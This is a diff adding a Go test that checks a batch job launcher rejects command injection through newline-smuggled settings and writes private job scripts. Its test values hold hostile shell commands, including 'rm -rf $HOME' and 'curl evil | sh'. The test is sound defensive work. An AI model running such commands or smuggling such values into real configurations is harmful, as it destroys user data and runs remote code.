@@ -345,3 +345,37 @@ func TestOptionsFlagNames(t *testing.T) {
 		t.Error("Given disagrees with the flags")
 	}
 }
+
+// TestBatchScriptInjection is what a careless or hostile value would do:
+// a newline in a one-line setting would start a shell command in the job
+// script. Nothing is submitted, and the script files are private.
+func TestBatchScriptInjection(t *testing.T) {
+	for name, mod := range map[string]func(*BatchOptions){
+		"queue":     func(o *BatchOptions) { o.Queue = "debug\nrm -rf $HOME" },
+		"job-name":  func(o *BatchOptions) { o.JobName = "x\r\ncurl evil | sh" },
+		"directive": func(o *BatchOptions) { o.Directives = []string{"#TQ -x\ntouch /tmp/pwned"} },
+		"foreign":   func(o *BatchOptions) { o.Directives = []string{"touch /tmp/pwned"} },
+	} {
+		q := newQueueRunner()
+		cfg := batchTestConfig(t, q, wildcardConn)
+		mod(cfg.Options.(*BatchOptions))
+		b, _ := NewBatchLauncher(testDialect(), KindEngines, cfg)
+		if err := b.Start(context.Background(), 1); err == nil {
+			t.Errorf("%s: injected value accepted", name)
+		}
+		if len(q.calls) != 0 {
+			t.Errorf("%s: commands run: %v", name, q.calls)
+		}
+	}
+	q := newQueueRunner()
+	cfg := batchTestConfig(t, q, wildcardConn)
+	b, _ := NewBatchLauncher(testDialect(), KindEngines, cfg)
+	if err := b.Start(context.Background(), 1); err != nil {
+		t.Fatal(err)
+	}
+	defer b.Stop(context.Background())
+	fi, err := os.Stat(b.jobs[0].Script)
+	if err != nil || fi.Mode().Perm()&0o077 != 0 {
+		t.Errorf("job script %s mode %v (%v): others can read it", b.jobs[0].Script, fi.Mode(), err)
+	}
+}
